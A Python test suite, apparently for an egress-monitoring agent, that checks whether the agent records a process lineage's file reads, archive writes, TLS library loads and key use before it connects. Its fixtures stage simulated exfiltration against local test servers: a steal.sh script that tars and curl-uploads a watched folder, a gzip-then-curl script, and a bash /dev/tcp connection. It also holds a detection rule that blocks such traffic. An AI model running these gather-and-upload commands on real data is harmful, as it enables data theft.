"""What a sender's lineage did before it connected: told by exeat-agent, written into the records. Needs root, BPF and fanotify;
skipped otherwise."""
import glob
import json
import os
import signal
import subprocess
import time

import pytest

import harness
from test_agent_bpf import Agent, cookie, listen
from test_rules_inline import fired, write_rules

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")

# A client: connects, waits until its input ends.
CONNECT = """import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
sys.stdin.read()
"""


def start(tmp_path, *options):
    agent = Agent(tmp_path, *options)
    sentences = [s for s in agent.hello["capabilities"]["degraded"] if s.startswith("history:")]
    if sentences:
        agent.end()
        pytest.skip("; ".join(sentences))
    return agent


@pytest.fixture
def watched(tmp_path):
    folder = tmp_path / "watched"
    folder.mkdir()
    (folder / "plans.txt").write_text("secret\n" * 1000)
    (folder / "more").mkdir()
    (folder / "more" / "deep.txt").write_text("secret\n")
    return folder


def wait_for_mark(pid, path):
    """Until the agent has marked that folder or file: its walk is a thread's."""
    wanted = " ino:%x " % os.stat(path).st_ino

    collector = harness.part_of(pid, "exeat-collector")

    def text_of(fd):
        try:
            if "fanotify" in os.readlink(f"/proc/{collector}/fd/{fd}"):
                return open(f"/proc/{collector}/fdinfo/{fd}", encoding="ascii").read()
        except FileNotFoundError:
            pass  # closed since it was listed
        return ""

    def marked():
        return any("fanotify" + wanted in text_of(fd) for fd in os.listdir(f"/proc/{collector}/fdinfo"))
    harness.wait_until(marked, f"a mark on {path}")


@pytest.fixture
def agent(tmp_path, watched):
    a = start(tmp_path, "--watch", f"plans={watched}/**")
    wait_for_mark(a.process.pid, watched / "more")
    yield a
    a.end()


def run_session(agent, tmp_path, script, asks=1):
    """A shell that leads a session of its own starts one that runs `script`, in which $CONNECT connects to us. The answer."""
    listener = listen()
    port = listener.getsockname()[1]
    agent.greet("127.0.0.1:%d" % port)
    (tmp_path / "connect.py").write_text(CONNECT)
    (tmp_path / "script.sh").write_text(f"CONNECT='/usr/bin/python3 {tmp_path}/connect.py {port}'\n{script}\n")
    shell = subprocess.Popen(["/bin/sh", "-c", f"/bin/sh {tmp_path}/script.sh; true"], stdin=subprocess.PIPE,
                             start_new_session=True)
    accepted = listener.accept()[0]
    for _ in range(asks):
        answer = agent.ask(accepted, **cookie(accepted))
    shell.communicate()
    return answer


def seen(answer):
    assert answer["confidence"] in ("exact", "stale"), answer
    return {row["kind"]: row for row in answer["history"]["seen"]}


def test_a_scripts_archive_and_its_connection(agent, watched, tmp_path):
    archive = tmp_path / "x.tgz"
    answer = run_session(agent, tmp_path, f"tar czf {archive} -C {watched} .; sleep 1; $CONNECT")
    rows = seen(answer)
    access, written, archiver = rows["sensitive_access"], rows["archive_written"], rows["exec_archiver"]
    assert (access["class"], access["name"], access["count"]) == ("plans", "tar", 2)
    assert access["path"].startswith(str(watched))
    assert (written["class"], written["path"]) == ("gzip", str(archive))
    assert written["name"] in ("tar", "gzip", "sh") and written["bytes"] == os.stat(archive).st_size
    assert archiver["class"] in ("tar", "gzip") and 1 <= archiver["last_s"] < 20
    assert written["pid"] != answer["sender"]["pid"]


def test_another_sessions_archive_is_not_its_own(agent, watched, tmp_path):
    subprocess.run(["tar", "czf", tmp_path / "x.tgz", "-C", watched, "."], check=True, start_new_session=True)
    assert not seen(run_session(agent, tmp_path, "$CONNECT"))


def test_the_record_names_it(make_proxy, http, name, watched, tmp_path):
    """tar of a watched folder, then curl of the result through the proxy."""
    archive, host = tmp_path / "out.tar.xz", name()
    with make_proxy("history", agent_options=["--watch", f"plans={watched}/**"]) as proxy:
        if any("history:" in line for line in proxy.agent.log.splitlines()):
            pytest.skip(proxy.agent.log)
        wait_for_mark(proxy.agent.pid, watched / "more")
        script = (f"tar cJf {archive} -C {watched} .\nsleep 1\n"
                  f"curl -s -o /dev/null -x http://127.0.0.1:{proxy.port} --data-binary @{archive} "
                  f"http://{host}:{http.port}/upload\n")
        (tmp_path / "steal.sh").write_text(script)
        subprocess.run(["/bin/sh", "-c", f"/bin/sh {tmp_path}/steal.sh; true"], start_new_session=True, check=True)
        history = proxy.exchange(host).get("unmapped.sender.history")
        rows = {row["kind"]: row for row in history["seen"]}
        assert rows["sensitive_access"]["class"] == "plans" and rows["sensitive_access"]["name"] == "tar"
        assert rows["archive_written"]["path"] == str(archive) and rows["archive_written"]["class"] == "xz"
        assert 1 <= rows["archive_written"]["last_s"] < 30 and rows["archive_written"]["bytes"] > 0
        assert rows["exec_archiver"]["pid"] > 0 and history["losses"] == {"events": 0, "files": 0, "forgotten": 0}


def test_rights_are_given_up(tmp_path, watched):
    """As another user with two capabilities left: files are still seen, new folders too."""
    for parent in [tmp_path, *list(tmp_path.parents)[:3]]:
        os.chmod(parent, os.stat(parent).st_mode | 0o011)
    agent = start(tmp_path, "--user", "nobody", "--watch", f"plans={watched}/**")
    wait_for_mark(agent.process.pid, watched / "more")
    script = (f"mkdir -p {watched}/new/er; echo x > {watched}/new/er/file; ls -R {watched} >/dev/null; sleep 0.2\n"
              f"tar cf {tmp_path}/y.tar -C {watched}/new .; $CONNECT")
    rows = seen(run_session(agent, tmp_path, script))
    assert rows["sensitive_access"]["path"] == f"{watched}/new/er/file" and rows["sensitive_access"]["name"] == "tar"
    assert rows["archive_written"]["class"] == "tar"
    agent.end()


def test_another_name_is_no_disguise(tmp_path):
    """A hard link to a watched file that matches by name is still that file, of its class."""
    key = tmp_path / "id_x"
    key.write_text("key")
    other = start(tmp_path, "--watch", f"key={key}")
    wait_for_mark(other.process.pid, key)
    rows = seen(run_session(other, tmp_path, f"mkdir {tmp_path}/a; ln {key} {tmp_path}/a/innocent; cat {tmp_path}/a/innocent; $CONNECT"))
    assert rows["sensitive_access"]["class"] == "key" and rows["sensitive_access"]["path"].endswith("innocent")
    other.end()


def marked_in_script(agent, path):
    """For a shell: until the agent has marked that, which takes it a moment when it is new."""
    collector = harness.part_of(agent.process.pid, "exeat-collector")
    return (f"for i in $(seq 2000); do grep -qs \"fanotify ino:$(printf %x $(stat -c %i {path})) \" /proc/{collector}/fdinfo/* && break; "
            "sleep 0.01; done")


@pytest.mark.parametrize("script, where", [
    ("mv {f}/id_x {f}/notes; cat {f}/notes", "/notes"),
    ("mv {f}/id_x {t}/away; cat {t}/away", "/away"),
    ("ln {f}/id_x {f}/linked; cat {f}/linked", "/linked"),
    ("mv {t}/fresh {f}/id_new; mv {f}/id_new {f}/a; mv {f}/a {f}/b; cat {f}/b", "/b"),
    ("ln {t}/fresh {f}/id_new; {marked}; cat {t}/fresh", "/fresh"),
    ("touch {f}/id_made; mv {f}/id_made {t}/made; {marked}; cat {t}/made", "/made"),
    ("mv {t}/tree {d}/tree; {marked}; cat {d}/tree/in", "/tree/in"),
    ("mv {d}/old {t}/gone; cat {t}/gone/deep", "/gone/deep"),
    ("mv {d}/file {t}/file; cat {t}/file", "/file"),
    ("ln {d}/file {t}/link; cat {t}/link", "/link"),
])
def test_a_file_is_what_it_was(tmp_path, script, where):
    """Renamed inside its folder to what no glob names, out of it, into it, linked: a watched file is watched by what it is."""
    f, t, d = (tmp_path / n for n in ("keys", "other", "docs"))
    for folder in (f, t, d, d / "old", t / "tree"):
        folder.mkdir()
    for file in (f / "id_x", f / "stranger", t / "fresh", t / "tree" / "in", d / "file", d / "old" / "deep"):
        file.write_text("x")
    other = start(tmp_path, "--no-default-watches", "--watch", f"key={f}/id_*", "--watch", f"plans={d}/**")
    wait_for_mark(other.process.pid, d / "old" / "deep")
    wait_for_mark(other.process.pid, d / "file")
    wait_for_mark(other.process.pid, f / "id_x")
    assert not seen(run_session(other, tmp_path, f"cat {f}/stranger; $CONNECT"))
    new = {"/fresh": t / "fresh", "/made": t / "made"}.get(where, d / "tree")
    script = script.format(f=f, t=t, d=d, marked=marked_in_script(other, new)) + "; $CONNECT"
    row = seen(run_session(other, tmp_path, script))["sensitive_access"]
    assert row["path"].endswith(where) and row["class"] == ("plans" if str(d) in script else "key"), row
    other.end()


def keep(agent, answer, seconds):
    agent.send({"v": 1, "type": "keep", "id": 7, "nonce": "00000000000000aa", "sender_ref": answer["sender_ref"], "seconds": seconds})
    kept = json.loads(agent.lines.readline())
    while kept["type"] in ("around", "losses"):  # unasked
        kept = json.loads(agent.lines.readline())
    assert kept["type"] == "kept" and kept["id"] == 7 and kept["sender_ref"] == answer["sender_ref"], kept
    return kept


def test_what_a_finding_is_about_is_kept(tmp_path, watched):
    """Asked to keep a lineage, the agent remembers it when it has long forgotten others; what it was not told of it doesn't tell."""
    agent = start(tmp_path, "--watch", f"plans={watched}/**", "--window", "6")
    wait_for_mark(agent.process.pid, watched / "more")
    assert agent.hello["capabilities"]["keep"] >= 16
    answer = run_session(agent, tmp_path, f"cat {watched}/plans.txt >/dev/null; $CONNECT")
    assert keep(agent, answer, 0)["outcome"] == "not_kept"
    kept = keep(agent, answer, 3600)
    assert kept["outcome"] == "kept" and time.time() + 3000 < kept["until_ms"] / 1000 <= time.time() + 3601
    assert [row["class"] for row in kept["history"]["seen"] if row["kind"] == "sensitive_access"] == ["plans"]
    other = run_session(agent, tmp_path, f"cat {watched}/plans.txt >/dev/null; $CONNECT")
    harness.wait_until(lambda: keep(agent, other, 0)["outcome"] == "unknown" or not keep(agent, other, 0)["history"]["seen"],
                       "that the agent forgets what it doesn't keep", 40)
    row = {row["kind"]: row for row in keep(agent, answer, 0)["history"]["seen"]}["sensitive_access"]
    assert row["class"] == "plans" and row["name"] == "cat" and row["count"] == 1 and row["path"] == f"{watched}/plans.txt"
    stranger = {"sender_ref": "%d.1.1" % os.getpid()}
    assert keep(agent, stranger, 3600)["outcome"] == "unknown"
    agent.end()


SET_SID = "import os, sys\nif os.fork(): os.wait(); os._exit(0)\nos.setsid()\n" + CONNECT


def test_a_new_session_without_a_new_program(agent, watched, tmp_path):
    """A child that only calls setsid() is another lineage from then on."""
    (tmp_path / "sid.py").write_text(SET_SID)
    script = f"cat {watched}/plans.txt >/dev/null; CONNECT=$(echo $CONNECT | sed s/connect.py/sid.py/); $CONNECT"
    answer = run_session(agent, tmp_path, script)
    assert "sensitive_access" not in seen(answer), answer


def test_without_bpf_processes_are_followed(tmp_path, watched):
    """By the kernel's connector, and it is said what that can miss: the child that read the file is long gone."""
    agent = Agent(tmp_path, "--no-bpf", "--watch", f"plans={watched}/**")
    if not any("by the connector" in s for s in agent.hello["capabilities"]["degraded"]):
        agent.end()
        pytest.skip("no connector here")
    wait_for_mark(agent.process.pid, watched / "more")
    rows = seen(run_session(agent, tmp_path, f"cat {watched}/plans.txt >/dev/null; $CONNECT"))
    assert rows["sensitive_access"]["class"] == "plans"
    (tmp_path / "sid.py").write_text(SET_SID)
    script = f"cat {watched}/plans.txt >/dev/null; CONNECT=$(echo $CONNECT | sed s/connect.py/sid.py/); $CONNECT"
    assert "sensitive_access" not in seen(run_session(agent, tmp_path, script))
    agent.end()


def test_told_to_go_without(tmp_path):
    agent = Agent(tmp_path, "--no-history")
    assert any("told to go without" in s for s in agent.hello["capabilities"]["degraded"])
    assert "history" not in run_session(agent, tmp_path, "$CONNECT")
    agent.end()


def compiled(tmp_path, name, source, *options):
    path = tmp_path / (name + ".c")
    path.write_text(source)
    made = subprocess.run(["cc", "-O1", "-o", tmp_path / name, path, *options], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"{name} cannot be compiled: {made.stderr[-300:]}")
    return tmp_path / name


CLIENT = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
%s
int main(int argc, char **argv)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(argc > 1 ? atoi(argv[1]) : 1), .sin_addr.s_addr = htonl(0x7f000001)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char byte;
    %s
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
        return 1;
    return read(0, &byte, 1) < 0;
}
"""


def ask_program(agent, argv, until=None):
    """Runs a client that connects to the port behind its arguments; asks until `until(rows)`, and answers."""
    listener = listen()
    port = listener.getsockname()[1]
    agent.greet("127.0.0.1:%d" % port)
    client = subprocess.Popen([*map(str, argv), str(port)], stdin=subprocess.PIPE, start_new_session=True)
    accepted = listener.accept()[0]
    answers = []

    def asked():
        answers.append(agent.ask(accepted, **cookie(accepted)))
        return until is None or until(seen(answers[-1]))
    harness.wait_until(asked, "what the client did")
    client.communicate()
    return answers[-1]


def test_libraries_that_a_client_loads(agent):
    rows = seen(ask_program(agent, ["/usr/bin/python3", "-c", "import ssl\n" + CONNECT]))
    assert rows["tls_library"]["class"] == "openssl" and "/libssl.so" in rows["tls_library"]["path"]
    assert rows["crypto_library"]["class"] == "openssl" and "/libcrypto.so" in rows["crypto_library"]["path"]
    assert not seen(ask_program(agent, ["/usr/bin/python3", "-c", CONNECT]))


def test_libraries_from_before_the_agent(tmp_path):
    """The client was there first: its mappings are looked at when it is asked about, after the answer."""
    listener = listen()
    port = listener.getsockname()[1]
    client = subprocess.Popen(["/usr/bin/python3", "-c", "import ssl\nprint('x', flush=True)\nimport sys\nsys.stdin.readline()\n" + CONNECT,
                               str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, start_new_session=True)
    assert client.stdout.readline() == b"x\n"
    agent = start(tmp_path)
    agent.greet("127.0.0.1:%d" % port)
    client.stdin.write(b"\n")
    client.stdin.flush()
    accepted = listener.accept()[0]
    harness.wait_until(lambda: "tls_library" in seen(agent.ask(accepted, **cookie(accepted))), "its libraries")
    client.communicate()
    agent.end()


def test_tls_inside_an_executable(agent, tmp_path):
    """A static TLS client, as Go and Rust make them: nothing is loaded, yet it is there."""
    client = compiled(tmp_path, "static", CLIENT % ("#include <openssl/ssl.h>", "SSL_CTX_free(SSL_CTX_new(TLS_client_method()));"),
                      "-static", "-lssl", "-lcrypto", "-ldl", "-lpthread")
    answer = ask_program(agent, [client], lambda rows: "tls_library" in rows)
    assert seen(answer)["tls_library"]["path"] == str(client)
    answer = ask_program(agent, [client])  # known at once now
    assert seen(answer)["tls_library"]["class"] == "openssl"


BASH = "exec 3<>/dev/tcp/127.0.0.1/$1; read x"


def libssl():
    found = sorted(glob.glob("/usr/lib/*/libssl.so.3"))
    return found[0] if found else pytest.skip("no libssl")


def hidden(answer):
    return "tls_library_unexpected" in answer["history"]["not_observable"]


def bash_is_packaged():
    if subprocess.run(["dpkg", "-S", "/bin/bash"], capture_output=True).returncode != 0:
        pytest.skip("no dpkg here")


@pytest.mark.parametrize("way", ["preloaded", "opened"])
def test_a_tls_library_that_the_package_does_not_link(agent, way):
    bash_is_packaged()
    if way == "preloaded":
        argv = ["/usr/bin/env", "LD_PRELOAD=" + libssl(), "/bin/bash", "-c", BASH, "it"]
    else:
        argv = ["/bin/bash", "-c", f"enable -f {libssl()} it 2>/dev/null; " + BASH, "it"]
    row = seen(ask_program(agent, argv, lambda rows: "tls_library_unexpected" in rows))["tls_library_unexpected"]
    assert row["class"] == "openssl" and row["path"] == os.path.realpath(libssl()) and row["name"] == "bash", row
    assert "tls_library_unexpected" in seen(ask_program(agent, argv)), "known at once now"


def test_a_tls_library_that_belongs_to_the_program(agent):
    """python's own module brings libssl when a script imports it."""
    bash_is_packaged()
    answers = []

    def known():
        answers.append(ask_program(agent, ["/usr/bin/python3", "-c", "import ssl\n" + CONNECT]))
        return not hidden(answers[-1])
    harness.wait_until(known, "whether python's package links it")
    assert "tls_library" in seen(answers[-1])
    assert all("tls_library_unexpected" not in seen(a) for a in answers)


def test_a_tls_library_of_a_program_without_a_package(agent, tmp_path):
    """Nobody says what it links: not observable, not expected, not suspicious."""
    client = compiled(tmp_path, "linked", CLIENT % ("#include <openssl/ssl.h>", "SSL_CTX_free(SSL_CTX_new(TLS_client_method()));"), "-lssl")
    answer = ask_program(agent, [client], lambda rows: "tls_library" in rows)
    assert hidden(answer) and "tls_library_unexpected" not in seen(answer)

def test_how_often_it_runs_and_connects(tmp_path):
    (tmp_path / "state").mkdir()
    agent = start(tmp_path, "--state", str(tmp_path / "state"))
    program = compiled(tmp_path, "rare", CLIENT % ("", "if (argc < 2) return 0;"))
    for _ in range(3):
        subprocess.run([program], check=True)
    usage = ask_program(agent, [program])["history"]["usage"]
    assert usage["executions"]["count"] == 4 and usage["connections"]["count"] == 0 and usage["connected_executions"] == 0
    agent.end()
    agent = Agent(tmp_path, "--state", str(tmp_path / "state"))
    scripts = [tmp_path / "one.py", tmp_path / "other.py"]
    for script in scripts:  # one interpreter's, and yet two programs
        script.write_text(CONNECT)
    subprocess.run(["/usr/bin/python3", scripts[0]], stderr=subprocess.DEVNULL)  # ends at once: no port
    runs = [ask_program(agent, ["/usr/bin/python3", s])["history"]["usage"]["executions"]["count"] for s in scripts]
    assert runs == [2, 1]
    usage = ask_program(agent, [program])["history"]["usage"]
    assert usage["executions"]["count"] == 5 and usage["connections"]["count"] == 1 and usage["connected_executions"] == 1
    assert usage["executions"]["first_ms"] <= usage["connections"]["first_ms"] <= usage["executions"]["last_ms"]
    agent.end()


def test_what_is_missed_is_counted(agent, tmp_path):
    """The agent sleeps through more than the kernel keeps for it: said in the answer, and it goes on."""
    os.kill(agent.collector, signal.SIGSTOP)
    for _ in range(3000):
        subprocess.run(["/bin/true", "x" * 250], check=True)
    for i in range(17000):
        (tmp_path / f"f{i % 17000}").write_text("x")
    os.kill(agent.collector, signal.SIGCONT)
    harness.wait_until(lambda: ask_program(agent, ["/usr/bin/python3", "-c", CONNECT])["history"]["losses"]["files"] > 0,
                       "losses of files")
    answer = ask_program(agent, ["/usr/bin/python3", "-c", CONNECT])
    assert answer["history"]["losses"]["events"] > 0 and answer["confidence"] == "exact"
    archive = tmp_path / "after.tar"
    rows = seen(run_session(agent, tmp_path, f"tar cf {archive} -C /usr/share/common-licenses .; $CONNECT"))
    assert rows["archive_written"]["path"] == str(archive) and "exec_archiver" in rows


def test_a_killed_collector_is_a_loss(agent, tmp_path):
    """What it remembered is gone, which the next one says in its answers."""
    assert ask_program(agent, ["/usr/bin/python3", "-c", CONNECT])["history"]["losses"]["events"] == 0
    killed = agent.collector
    os.kill(killed, signal.SIGKILL)
    assert agent.lines.readline() == ""  # the answerer closes what it cannot serve
    harness.wait_until(lambda: harness.parts_of(agent.process.pid).get("exeat-collector", killed) != killed, "another one")
    agent.reconnect()
    assert ask_program(agent, ["/usr/bin/python3", "-c", CONNECT])["history"]["losses"]["events"] >= 1


CIPHER = r"""
#include <openssl/evp.h>
#include <openssl/rsa.h>
"""
USE_CIPHER = r"""
    unsigned char key[32] = {1}, iv[16] = {2}, signature[512];
    size_t length = sizeof signature;
    EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
    for (int i = 0; i < 4; i++)
        EVP_EncryptInit_ex(c, EVP_aes_256_cbc(), NULL, key, iv);
    EVP_PKEY *rsa = EVP_RSA_gen(2048);
    EVP_MD_CTX *m = EVP_MD_CTX_new();
    EVP_DigestSignInit(m, NULL, EVP_sha256(), NULL, rsa);
    EVP_DigestSign(m, signature, &length, key, sizeof key);
"""


def test_keys_used_before_connecting(tmp_path):
    agent = start(tmp_path, "--keys", "all")
    client = compiled(tmp_path, "cipher", CLIENT % (CIPHER, USE_CIPHER), "-lcrypto")
    answer = ask_program(agent, [client])
    rows = seen(answer)
    assert rows["symmetric_outside_tls"]["class"] == "EVP_EncryptInit_ex" and rows["symmetric_outside_tls"]["count"] == 4
    assert rows["public_key_outside_tls"]["class"] == "EVP_DigestSign" and rows["public_key_outside_tls"]["path"] == "cipher"
    assert answer["history"]["not_observable"] == []
    agent.end()


def test_a_handshake_is_no_use_of_keys(make_proxy, https, authority, name):
    """curl's TLS begins dozens of ciphers; the TLS library does, not curl."""
    host = name()
    with make_proxy("keys", agent_options=["--keys", "all"]) as proxy:
        if any("history:" in line for line in proxy.agent.log.splitlines()):
            pytest.skip(proxy.agent.log)
        curl = ["curl", "-s", "-o", "/dev/null", "--cacert", authority.ca, "-x", f"http://127.0.0.1:{proxy.port}"]
        subprocess.run([*curl, f"https://{host}:{https.port}/", "--next", *curl[1:], f"https://{host}:{https.port}/again"],
                       check=True, start_new_session=True)
        for exchange in proxy.ledger.find(lambda x: x.close and x.get("dst_endpoint.hostname") == host):
            kinds = {row["kind"] for row in exchange.get("unmapped.sender.history")["seen"]}
            assert "tls_library" in kinds and "symmetric_outside_tls" not in kinds and "public_key_outside_tls" not in kinds


def test_keys_of_programs_seen_before(tmp_path):
    """Without rights of its own any more, the agent watches who was at the proxy: the second time from the beginning."""
    for parent in [tmp_path, *list(tmp_path.parents)[:3]]:
        os.chmod(parent, os.stat(parent).st_mode | 0o011)
    agent = start(tmp_path, "--keys", "seen", "--user", "nobody")
    client = compiled(tmp_path, "cipher", CLIENT % (CIPHER, "usleep(300000);" + USE_CIPHER), "-lcrypto")
    assert "public_key_outside_tls" not in seen(ask_program(agent, [client]))
    time.sleep(1.5)
    assert seen(ask_program(agent, [client]))["public_key_outside_tls"]["class"] == "EVP_DigestSign"
    agent.end()


def test_what_is_done_during_a_connection(make_proxy, echo, name, watched, tmp_path):
    """A tunnel is open when its sender's lineage opens a watched file: the close record has it, the decision record did not."""
    host = name()
    with make_proxy("during", agent_options=["--watch", f"plans={watched}/**"]) as proxy:
        if any("history:" in line for line in proxy.agent.log.splitlines()):
            pytest.skip(proxy.agent.log)
        wait_for_mark(proxy.agent.pid, watched / "more")
        (tmp_path / "slow.sh").write_text(
            f"(echo hello; sleep 3; cat {watched}/plans.txt >/dev/null; sleep 8) | "
            f"curl -s -m 9 -p -x http://127.0.0.1:{proxy.port} telnet://{host}:{echo.port} >/dev/null\n")
        subprocess.run(["/bin/sh", "-c", f"/bin/sh {tmp_path}/slow.sh; true"], start_new_session=True, check=True, timeout=60)
        exchange = proxy.exchange(host)
        before, after = (harness.get_path(r, "unmapped.sender.history.seen") for r in (exchange.decision, exchange.close))
        assert not [row for row in before if row["kind"] == "sensitive_access"]
        assert [row["class"] for row in after if row["kind"] == "sensitive_access"] == ["plans"], exchange
        assert exchange.get("unmapped.sender.changed_ms") is None


RULE = """title: What was watched was packed
id: 22222222-0000-4000-8000-000000000001
level: high
logsource: {product: exeat}
detection:
  access: {history_sensitive_classes: plans, history_sensitive_access_age_s|lte: 600}
  archive: {history_archive_written|gte: 1, history_archive_written_age_s|lte: 600}
  condition: access and archive
"""


def test_a_rule_blocks_what_was_gathered(make_proxy, http, name, watched, tmp_path):
    host, archive = name(), tmp_path / "a.zip.gz"
    options = {"config": {"policy": {"rules": ["rules"], "actions": "actions.yaml"}},
               "agent_options": ["--watch", f"plans={watched}/**"]}
    proxy = make_proxy("gathered", **options)
    write_rules(proxy, {"gathered": RULE}, [{"rule": "22222222-0000-4000-8000-000000000001", "action": "block"}])
    with proxy:
        if any("history:" in line for line in proxy.agent.log.splitlines()):
            pytest.skip(proxy.agent.log)
        wait_for_mark(proxy.agent.pid, watched / "more")
        curl = f"curl -s -o /dev/null -w %{{http_code}} -x http://127.0.0.1:{proxy.port} http://{host}:{http.port}/"
        run = {"start_new_session": True, "check": True, "capture_output": True, "text": True}
        assert subprocess.run(["/bin/sh", "-c", f"/bin/sh -c '{curl}; true'; true"], **run).stdout == "200"
        (tmp_path / "take.sh").write_text(f"cat {watched}/plans.txt | gzip > {archive}\n{curl}\n")
        assert subprocess.run(["/bin/sh", "-c", f"/bin/sh {tmp_path}/take.sh; true"], **run).stdout == "403"
        blocked = harness.wait_until(lambda: proxy.ledger.find(lambda x: x.close and x.verdict == "block"), "the blocked one")[0]
        assert "22222222-0000-4000-8000-000000000001" in fired(blocked)


def test_status_says_what_the_agent_cannot_do(make_proxy):
    with make_proxy("nobpf", agent_options=["--no-bpf"]) as proxy:
        proxy.wait_agent()
        sentences = proxy.status()["workers"][0]["agent"]["degraded"]
        assert "no BPF: it was told to go without" in sentences
        shown = proxy.run(harness.BUILD / "exeat", "status", "--socket", proxy.admin_socket).stdout.decode()
        assert all(sentence in shown for sentence in sentences), shown
